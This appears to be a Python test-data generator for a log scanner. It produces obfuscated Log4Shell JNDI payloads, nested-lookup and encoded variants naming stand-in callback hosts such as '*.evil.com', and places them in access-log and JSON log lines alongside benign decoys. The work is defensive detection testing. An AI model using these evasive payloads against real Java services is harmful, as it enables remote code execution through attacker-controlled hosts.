"""Generated log corpora for the log scanner: obfuscated Log4Shell payloads (each with the
callback host it must be decoded to) and benign access logs, reproducible from a seed.

The obfuscation grammar: a ``${jndi:PROTO://HOST[:PORT]/PATH}`` lookup whose letters of
``jndi`` and of the protocol are each, at random, left alone, case-flipped, or replaced by
a nested lookup that yields them (``${lower:j}``, ``${upper:n}``, ``${::-d}``,
``${env:X:-i}``, ``${date:'l'}``, ``${sys:y:-d}``), to any depth; sometimes the whole
lookup hides in ``${base64:...}``. The result is then carried in one transport encoding
(none, percent-encoding once or twice, ``\\u0024``-style, ``\\x24``-style or HTML
references) and placed in a random field of an access-log or JSON log line.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

PROTOCOLS: Final = ("ldap", "ldaps", "rmi", "dns", "iiop", "http", "corba", "nis", "nds")
PLAIN_SHARE: Final = 0.25  # payloads whose words are not obfuscated (still encoded)
ENCODINGS: Final = ("none", "url", "url2", "unicode", "hex", "html", "mixed")
USER_AGENTS: Final = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
)
BENIGN_DOLLAR: Final = (  # "${" that is no Log4j attack
    "${HOME}/bin",
    "${user.dir}/conf",
    "${foo:-bar}",
    "${env:PATH}",
    "`${a + b}`",
    "$%7Bpath%7D",
    "${lower:ABC}",
    "${::-x}",
    "${java:version}",
    "${ctx:loginId}",
    "price ${amount} USD",
    "${}",
    "${${nested}}",
    "jndi:ldap://docs.example/explained",
    "java:comp/env/jdbc/main",
    "${jndi",
)


@dataclass(frozen=True, slots=True)
class Attempt:
    line: str
    host: str  # the callback host the scanner must report
    encoding: str


def _letter(rng: random.Random, char: str, depth: int) -> str:
    """One letter, possibly produced by nested lookups."""
    choice = rng.randrange(9 if depth < 4 else 2)
    match choice:
        case 0:
            return char
        case 1:
            return char.upper() if rng.random() < 0.5 else char
        case 2:
            return "${lower:" + _letter(rng, char.upper(), depth + 1) + "}"
        case 3:
            return "${upper:" + _letter(rng, char, depth + 1) + "}"
        case 4:
            return "${::-" + _letter(rng, char, depth + 1) + "}"
        case 5:
            name = rng.choice(("X", "NaN", "BARFOO", "k5"))
            return "${env:" + name + ":-" + _letter(rng, char, depth + 1) + "}"
        case 6:
            return "${date:'" + char + "'}"
        case 7:
            return "${sys:" + rng.choice(("a", "os.x")) + ":-" + _letter(rng, char, depth + 1) + "}"
        case _:
            return "${" + rng.choice(("", "x", "abc")) + ":-" + _letter(rng, char, depth + 1) + "}"


def _word(rng: random.Random, word: str, plain: bool) -> str:
    return word if plain else "".join(_letter(rng, char, 0) for char in word)


def _host(rng: random.Random) -> str:
    if rng.random() < 0.2:
        return ".".join(str(rng.randrange(1, 255)) for _ in range(4))
    label = "".join(
        rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randrange(3, 12))
    )
    middle = rng.choice(("evil", "oast", "c2", "x"))
    return f"{label}.{middle}.{rng.choice(('com', 'net', 'fun', 'io'))}"


def payload(rng: random.Random) -> tuple[str, str]:
    """An obfuscated lookup and the callback host it names."""
    protocol = rng.choice(PROTOCOLS)
    host = _host(rng)
    port = f":{rng.choice((389, 1389, 1099, 53, 80, 443, 8080))}" if rng.random() < 0.6 else ""
    path = "/" + "".join(
        rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randrange(0, 10))
    )
    plain = rng.random() < PLAIN_SHARE
    jndi, scheme = _word(rng, "jndi", plain), _word(rng, protocol, plain)
    text = "${" + jndi + ":" + scheme + f"://{host}{port}{path}" + "}"
    if rng.random() < 0.05:
        hidden = f"${{jndi:{protocol}://{host}{port}{path}}}"
        text = "${base64:" + base64.b64encode(hidden.encode()).decode() + "}"
    return text, host


def encode(rng: random.Random, text: str, encoding: str) -> str:
    match encoding:
        case "none":
            return text
        case "url":
            return quote(text, safe="")
        case "url2":
            return quote(quote(text, safe=""), safe="")
        case "unicode":
            return text.replace("$", "\\u0024").replace("{", "\\u007b").replace("}", "\\u007d")
        case "hex":
            return text.replace("$", "\\x24").replace("{", "\\x7b").replace("}", "\\x7d")
        case "html":
            return text.replace("$", rng.choice(("&#36;", "&#x24;", "&dollar;"))).replace(
                "{", "&#123;"
            )
        case _:
            return "".join(
                quote(char, safe="") if char in "${}" and rng.random() < 0.5 else char
                for char in text
            )


def _place(rng: random.Random, carried: str, index: int) -> str:
    stamp = f"04/Dec/2021:{index // 3600 % 24:02d}:{index // 60 % 60:02d}:{index % 60:02d} +0000"
    ip = ".".join(str(rng.randrange(1, 255)) for _ in range(4))
    agent = rng.choice(USER_AGENTS)
    match rng.randrange(4):
        case 0:  # in the request path
            return f'{ip} - - [{stamp}] "GET /search?q={carried} HTTP/1.1" 200 512 "-" "{agent}"'
        case 1:  # in the user agent
            return f'{ip} - - [{stamp}] "GET / HTTP/1.1" 200 512 "-" "{carried}"'
        case 2:  # in the referer
            return f'{ip} - - [{stamp}] "GET /login HTTP/1.1" 302 0 "{carried}" "{agent}"'
        case _:  # a JSON application log
            stamp = f"2021-12-10T{index % 24:02d}:00:00Z"
            return f'{{"ts":"{stamp}","level":"WARN","user":"{carried}","msg":"login failed"}}'


def attempts(count: int, seed: int = 44228) -> Iterator[Attempt]:
    rng = random.Random(seed)
    for index in range(count):
        text, host = payload(rng)
        encoding = ENCODINGS[index % len(ENCODINGS)]
        yield Attempt(_place(rng, encode(rng, text, encoding), index), host, encoding)


def benign_lines(count: int, seed: int = 1) -> Iterator[str]:
    """Access-log lines; about one in fifty carries a "${" that is not an attack, and some
    carry UTF-8 text or percent-encoded bytes."""
    rng = random.Random(seed)
    paths = (
        "/index.html",
        "/api/v1/items?id={n}&sort=asc",
        "/static/app.js",
        "/search?q={q}",
        "/img/{n}.png",
    )
    queries = ("shoes", "r%C3%A9sum%C3%A9", "a+b", "caf%E9", "%2524", "50%25")
    for index in range(count):
        path = rng.choice(paths).format(n=rng.randrange(100_000), q=rng.choice(queries))
        agent = rng.choice(USER_AGENTS)
        if rng.random() < 0.02:
            agent = f"{agent} {rng.choice(BENIGN_DOLLAR)}"
        elif rng.random() < 0.01:
            agent = f"{agent} café ünïcode 日本語"
        stamp = (
            f"04/Dec/2021:{index // 3600 % 24:02d}:{index // 60 % 60:02d}:{index % 60:02d} +0000"
        )
        ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}"
        yield f'{ip} - - [{stamp}] "GET {path} HTTP/1.1" 200 {rng.randrange(99_999)} "-" "{agent}"'
